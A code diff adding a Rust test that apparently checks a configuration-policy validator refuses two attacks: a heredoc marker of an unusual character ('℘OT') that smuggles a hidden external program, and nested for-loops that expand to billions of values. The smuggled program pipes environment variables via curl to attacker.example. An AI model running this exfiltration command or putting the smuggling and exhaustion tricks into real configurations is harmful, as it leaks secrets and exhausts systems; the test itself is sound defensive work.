@@ -67,6 +67,30 @@ fn the_twenty_fourth_round_of_attacks_on_the_secrets_is_refused() {
     ]);
 }
 
+/// A twenty-seventh round: a heredoc marker of an identifier character
+/// Rust does not call alphabetic (`℘OT`) slipped past the marker rules, and
+/// `for`s chained through locals, each within the bound, multiplied to
+/// billions of values.
+#[test]
+fn the_twenty_seventh_round_of_attacks_is_refused() {
+    let vm = vm_policy();
+    let hidden = "  motd = <<EOF\n℘OT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
+    assert_each_refused(vec![
+        (
+            "a heredoc marker Rust does not call alphabetic",
+            format!("locals {{\n  banner = <<℘OT\ndeployflow\n℘OT # closes the banner\n{hidden}"),
+            &[Rule::Character],
+            &vm,
+        ),
+        (
+            "fors chained through locals",
+            "locals {\n  grid = flatten([for a in range(256) : [for b in range(256) : \"${a}-${b}\"]])\n  cube = length(flatten([for c in local.grid : [for d in range(256) : \"${c}${d}\"]]))\n}\n".to_owned(),
+            &[Rule::SizeNotBounded],
+            &vm,
+        ),
+    ]);
+}
+
 /// Bounded forms of the same pass: a small range, two nested fors, a
 /// narrow format, a for variable of its own name.
 #[test]
